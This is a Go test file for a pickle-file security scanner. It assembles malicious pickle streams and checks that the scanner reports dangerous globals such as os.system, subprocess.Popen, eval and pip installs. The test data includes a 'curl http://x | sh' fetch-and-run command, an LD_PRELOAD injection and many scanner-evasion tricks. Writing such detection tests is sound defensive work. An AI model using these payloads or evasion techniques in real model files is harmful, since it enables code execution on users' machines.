package pickle

import (
	"bytes"
	"context"
	"fmt"
	"sort"
	"strings"
	"testing"

	"github.com/mlsec/mlsec/internal/rule"
)

// want is one expected issue: class, severity, "module.name" and the label
// of the opcode it is reported at.
type want struct {
	class Class
	sev   rule.Severity
	name  string
	at    string
}

func scanBytes(b []byte, opts Options) *Result {
	return Scan(context.Background(), bytes.NewReader(b), opts)
}

func issueKey(class Class, sev rule.Severity, name string, off int64) string {
	return fmt.Sprintf("%s %s %s @%d", class, sev, name, off)
}

func checkIssues(t *testing.T, res *Result, a *asm, wants []want) {
	t.Helper()
	var got, exp []string
	for _, is := range res.Issues {
		name := is.Module + "." + is.Name
		if is.Module == "" && is.Name == "" {
			name = ""
		} else if is.Module == "" {
			name = is.Name
		}
		got = append(got, issueKey(is.Class, is.Severity, name, is.Offset))
	}
	for _, w := range wants {
		off, ok := a.labels[w.at]
		if !ok {
			t.Fatalf("test bug: no label %q", w.at)
		}
		exp = append(exp, issueKey(w.class, w.sev, w.name, off))
	}
	sort.Strings(got)
	sort.Strings(exp)
	if strings.Join(got, "\n") != strings.Join(exp, "\n") {
		t.Errorf("issues:\n got:\n  %s\n want:\n  %s", strings.Join(got, "\n  "), strings.Join(exp, "\n  "))
		for _, is := range res.Issues {
			t.Logf("  %+v", is)
		}
	}
}

func TestScanMalicious(t *testing.T) {
	crit, high, med := rule.Critical, rule.High, rule.Medium
	cases := []struct {
		name     string
		a        *asm
		want     []want
		evidence string // evidence of the first issue, when checked
		complete bool   // Incomplete must be nil
	}{
		{
			name:     "protocol 0 GLOBAL os.system",
			a:        newAsm().at("g").global("os", "system").op(opMark).str0("curl http://x | sh").op(opTuple, opReduce).stop(),
			want:     []want{{ClassDangerousGlobal, crit, "os.system", "g"}},
			evidence: "os.system('curl http://x | sh')", complete: true,
		},
		{
			name:     "protocol 0 __builtin__.eval",
			a:        newAsm().at("g").global("__builtin__", "eval").op(opMark).str0("1+1").op(opTuple, opReduce).stop(),
			want:     []want{{ClassDangerousGlobal, crit, "builtins.eval", "g"}},
			evidence: "builtins.eval('1+1')", complete: true,
		},
		{
			name:     "posix.system reported under its alias",
			a:        newAsm().proto(2).at("g").global("posix", "system").call1("id").stop(),
			want:     []want{{ClassDangerousGlobal, crit, "posix.system", "g"}},
			evidence: "posix.system('id') → os.system", complete: true,
		},
		{
			name: "STACK_GLOBAL from SHORT_BINUNICODE",
			a: newAsm().proto(4).sbu("subprocess").sbu("check_output").at("g").op(opStackGlobal).
				sbu("id").op(opTuple1, opReduce).stop(),
			want:     []want{{ClassDangerousGlobal, crit, "subprocess.check_output", "g"}},
			evidence: "subprocess.check_output('id')", complete: true,
		},
		{
			name:     "STACK_GLOBAL from BINUNICODE",
			a:        newAsm().proto(4).bu("os").bu("popen").at("g").op(opStackGlobal).call1("id").stop(),
			want:     []want{{ClassDangerousGlobal, crit, "os.popen", "g"}},
			complete: true,
		},
		{
			name: "STACK_GLOBAL from memo gets",
			a: newAsm().proto(4).sbu("builtins").op(opMemoize).op(opPop).sbu("exec").put(7).op(opPop).
				get(0).get(7).at("g").op(opStackGlobal).call1("print(1)").stop(),
			want:     []want{{ClassDangerousGlobal, crit, "builtins.exec", "g"}},
			evidence: "builtins.exec('print(1)')", complete: true,
		},
		{
			name: "memo confusion: slot overwritten after a harmless string",
			a: newAsm().proto(4).sbu("collections").put(0).op(opPop).sbu("os").put(0).op(opPop).
				get(0).sbu("system").at("g").op(opStackGlobal).call1("id").stop(),
			want:     []want{{ClassDangerousGlobal, crit, "os.system", "g"}},
			complete: true,
		},
		{
			name: "memo confusion the other way: dangerous slot overwritten by a harmless one",
			a: newAsm().proto(4).sbu("os").put(0).op(opPop).sbu("collections").put(0).op(opPop).
				get(0).sbu("OrderedDict").op(opStackGlobal).op(opEmptyTuple, opReduce).stop(),
			complete: true,
		},
		{
			name:     "text PUT and GET",
			a:        newAsm().str0("nt").putText(3).op(opPop).getText(3).str0("system").at("g").op(opStackGlobal).stop(),
			want:     []want{{ClassDangerousGlobal, crit, "nt.system", "g"}},
			complete: true,
		},
		{
			name:     "random._os.system",
			a:        newAsm().proto(4).sg("g", "random", "_os.system").call1("id").stop(),
			want:     []want{{ClassDangerousGlobal, crit, "random._os.system", "g"}},
			evidence: "random._os.system('id') → os.system", complete: true,
		},
		{
			name:     "pathlib.os.system",
			a:        newAsm().proto(4).sg("g", "pathlib", "os.system").call1("id").stop(),
			want:     []want{{ClassDangerousGlobal, crit, "pathlib.os.system", "g"}},
			complete: true,
		},
		{
			name:     "a harmless name through a module attribute is still high",
			a:        newAsm().proto(4).sg("g", "numpy", "os.path.join").stop(),
			want:     []want{{ClassDangerousGlobal, high, "numpy.os.path.join", "g"}},
			complete: true,
		},
		{
			name:     "os.path.join itself is only unknown",
			a:        newAsm().proto(4).sg("g", "os.path", "join").stop(),
			want:     []want{{ClassUnknownGlobal, med, "os.path.join", "g"}},
			complete: true,
		},
		{
			name: "_operator.attrgetter",
			a: newAsm().proto(4).sg("g", "_operator", "attrgetter").
				sbu("system").op(opTuple1, opReduce).stop(),
			want:     []want{{ClassDangerousGlobal, high, "_operator.attrgetter", "g"}},
			complete: true,
		},
		{
			name:     "INST calls its class",
			a:        newAsm().op(opMark).str0("id").at("g").inst("os", "system").stop(),
			want:     []want{{ClassDangerousGlobal, crit, "os.system", "g"}},
			evidence: "os.system('id')", complete: true,
		},
		{
			name:     "OBJ calls its first item",
			a:        newAsm().op(opMark).at("g").global("os", "system").str0("id").op(opObj).stop(),
			want:     []want{{ClassDangerousGlobal, crit, "os.system", "g"}},
			evidence: "os.system('id')", complete: true,
		},
		{
			name: "NEWOBJ",
			a: newAsm().proto(2).at("g").global("subprocess", "Popen").sbu("id").op(opTuple1).
				op(opNewObj).stop(),
			want:     []want{{ClassDangerousGlobal, crit, "subprocess.Popen", "g"}},
			complete: true,
		},
		{
			name: "NEWOBJ_EX",
			a: newAsm().proto(4).sg("g", "subprocess", "Popen").sbu("id").op(opTuple1).
				op(opEmptyDict, opNewObjEx).stop(),
			want:     []want{{ClassDangerousGlobal, crit, "subprocess.Popen", "g"}},
			complete: true,
		},
		{
			name: "commands module from Python 2",
			a:    newAsm().at("g").global("commands", "getoutput").op(opMark).str0("id").op(opTuple, opReduce).stop(),
			want: []want{{ClassDangerousGlobal, crit, "subprocess.getoutput", "g"}}, complete: true,
		},
		{
			name: "urllib2.urlopen",
			a:    newAsm().proto(2).at("g").global("urllib2", "urlopen").call1("http://x").stop(),
			want: []want{{ClassDangerousGlobal, crit, "urllib.request.urlopen", "g"}}, complete: true,
		},
		{
			name: "pip._internal.main",
			a: newAsm().proto(4).sg("g", "pip._internal", "main").
				op(opMark).sbu("install").sbu("evil-pkg").op(opList, opTuple1, opReduce).stop(),
			want: []want{{ClassDangerousGlobal, crit, "pip._internal.main", "g"}}, complete: true,
		},
		{
			name: "bdb.Bdb.run and pdb.run",
			a: newAsm().proto(4).sg("g1", "bdb", "Bdb.run").op(opPop).
				sg("g2", "pdb", "run").call1("import os").stop(),
			want:     []want{{ClassDangerousGlobal, crit, "bdb.Bdb.run", "g1"}, {ClassDangerousGlobal, crit, "pdb.run", "g2"}},
			complete: true,
		},
		{
			name: "cProfile.run and timeit.timeit",
			a: newAsm().proto(4).sg("g1", "cProfile", "run").call1("import os").op(opPop).
				sg("g2", "timeit", "timeit").call1("import os").stop(),
			want:     []want{{ClassDangerousGlobal, crit, "cProfile.run", "g1"}, {ClassDangerousGlobal, crit, "timeit.timeit", "g2"}},
			complete: true,
		},
		{
			name: "nested deserialisers",
			a: newAsm().proto(4).sg("g1", "torch.serialization", "load").call1("x.pt").op(opPop).
				sg("g2", "numpy", "load").call1("x.npy").op(opPop).
				sg("g3", "_pickle", "loads").op(opPop).
				sg("g4", "numpy.testing._private.utils", "runstring").stop(),
			want: []want{
				{ClassDangerousGlobal, crit, "torch.serialization.load", "g1"},
				{ClassDangerousGlobal, crit, "numpy.load", "g2"},
				{ClassDangerousGlobal, crit, "_pickle.loads", "g3"},
				{ClassDangerousGlobal, crit, "numpy.testing._private.utils.runstring", "g4"},
			},
			complete: true,
		},
		{
			name: "builtins.open is high, getattr is high",
			a: newAsm().proto(4).sg("g1", "builtins", "open").op(opPop).
				sg("g2", "builtins", "getattr").stop(),
			want:     []want{{ClassDangerousGlobal, high, "builtins.open", "g1"}, {ClassDangerousGlobal, high, "builtins.getattr", "g2"}},
			complete: true,
		},
		{
			name: "unknown global reported once per name",
			a: newAsm().proto(2).at("g").global("__main__", "Evil").op(opPop).
				global("__main__", "Evil").op(opEmptyTuple, opReduce).stop(),
			want:     []want{{ClassUnknownGlobal, med, "__main__.Evil", "g"}},
			evidence: "__main__.Evil()", complete: true,
		},
		{
			name:     "EXT1 names an unregistered extension",
			a:        newAsm().proto(2).at("g").op(opExt1, 42).op(opEmptyTuple, opReduce).stop(),
			want:     []want{{ClassUnknownGlobal, med, "ext:42", "g"}},
			complete: true,
		},
		{
			name:     "EXT2 and EXT4",
			a:        newAsm().proto(2).at("g1").op(opExt2, 1, 1).op(opPop).at("g2").op(opExt4, 1, 0, 0, 0).stop(),
			want:     []want{{ClassUnknownGlobal, med, "ext:257", "g1"}, {ClassUnknownGlobal, med, "ext:1", "g2"}},
			complete: true,
		},
		{
			name:     "persistent IDs are consumed silently",
			a:        newAsm().proto(2).op(opPersID).op([]byte("storage0\n")...).op(opPop).sbu("x").op(opBinPersID).stop(),
			complete: true,
		},
		{
			name: "type() with a dunder namespace",
			a: newAsm().proto(4).sg("g", "builtins", "type").
				sbu("X").op(opEmptyTuple).op(opEmptyDict).sbu("__reduce__").global("os", "system").op(opSetItem).
				op(opTuple3).at("r").op(opReduce).stop(),
			want: []want{
				{ClassUnknownGlobal, high, "builtins.type", "g"},
				{ClassDangerousGlobal, crit, "os.system", "r"}, // label r is after the GLOBAL, fixed below
				{ClassDynamicType, high, "builtins.type", "r"},
			},
			complete: true,
		},
		{
			name: "type() with a namespace from the memo",
			a: newAsm().proto(4).op(opEmptyDict).put(1).op(opMark).sbu("__init__").op(opNone).op(opSetItems).op(opPop).
				sg("g", "builtins", "type").sbu("X").op(opEmptyTuple).get(1).op(opTuple3).at("r").op(opReduce).stop(),
			want: []want{
				{ClassUnknownGlobal, high, "builtins.type", "g"},
				{ClassDynamicType, high, "builtins.type", "r"},
			},
			complete: true,
		},
		{
			name: "call on call: getattr(__import__('os'), 'system')('id')",
			a: newAsm().proto(4).sg("g1", "builtins", "getattr").
				sg("g2", "builtins", "__import__").call1("os").
				sbu("system").op(opTuple2, opReduce).
				sbu("id").op(opTuple1).at("r").op(opReduce).stop(),
			want: []want{
				{ClassDangerousGlobal, high, "builtins.getattr", "g1"},
				{ClassDangerousGlobal, crit, "builtins.__import__", "g2"},
				{ClassCallOnCall, high, "", "r"},
			},
			complete: true,
		},
		{
			name: "getattr asked for a dunder",
			a: newAsm().proto(4).sg("g1", "builtins", "getattr").
				sg("g2", "collections", "OrderedDict").sbu("__globals__").op(opTuple2).at("r").op(opReduce).stop(),
			want: []want{
				{ClassDangerousGlobal, high, "builtins.getattr", "g1"},
				{ClassDunderAccess, high, "builtins.getattr", "r"},
			},
			complete: true,
		},
		{
			name: "dunder in a global's dotted name",
			a:    newAsm().proto(4).sg("g", "collections", "OrderedDict.__class__.__subclasses__").stop(),
			want: []want{{ClassDunderAccess, high, "collections.OrderedDict.__class__.__subclasses__", "g"}}, complete: true,
		},
		{
			name: "state on class: BUILD on the os module object",
			a: newAsm().proto(4).sg("g", "random", "_os").
				op(opEmptyDict).sbu("system").op(opNone).op(opSetItem).at("b").op(opBuild).stop(),
			want: []want{
				{ClassDangerousGlobal, high, "random._os", "g"},
				{ClassStateOnClass, high, "random._os", "b"},
			},
			complete: true,
		},
		{
			name: "state on class: SETITEM on os.environ",
			a:    newAsm().proto(2).at("g").global("os", "environ").sbu("LD_PRELOAD").sbu("/tmp/x.so").at("s").op(opSetItem).stop(),
			want: []want{
				{ClassDangerousGlobal, crit, "os.environ", "g"},
				{ClassStateOnClass, high, "os.environ", "s"},
			},
			complete: true,
		},
		{
			name: "stacked pickle with the payload in the second",
			a:    newAsm().proto(4).int1(1).stop().proto(4).sg("g", "os", "system").call1("id").stop(),
			want: []want{{ClassDangerousGlobal, crit, "os.system", "g"}}, complete: true,
		},
		{
			name: "large BINBYTES8 skipped, offsets still exact",
			a:    newAsm().proto(4).bytes8(300000).op(opPop).sg("g", "os", "system").stop(),
			want: []want{{ClassDangerousGlobal, crit, "os.system", "g"}}, complete: true,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if tc.name == "type() with a dunder namespace" {
				// The os.system GLOBAL sits 14 bytes into the namespace.
				tc.a.labels["r"] = int64(bytes.Index(tc.a.b, []byte("cos\nsystem")))
				tc.want[1].at = "os"
				tc.a.labels["os"] = tc.a.labels["r"]
				tc.a.labels["r"] = int64(bytes.LastIndexByte(tc.a.b, opReduce))
			}
			res := scanBytes(tc.a.bytes(), Options{})
			checkIssues(t, res, tc.a, tc.want)
			if tc.complete && res.Incomplete != nil {
				t.Errorf("Incomplete = %v, want nil", res.Incomplete)
			}
			if tc.evidence != "" && (len(res.Issues) == 0 || res.Issues[0].Evidence != tc.evidence) {
				t.Errorf("evidence = %q, want %q", firstEvidence(res), tc.evidence)
			}
			for _, is := range res.Issues {
				if is.Message == "" {
					t.Errorf("issue without message: %+v", is)
				}
			}
		})
	}
}

func firstEvidence(res *Result) string {
	if len(res.Issues) == 0 {
		return ""
	}
	return res.Issues[0].Evidence
}
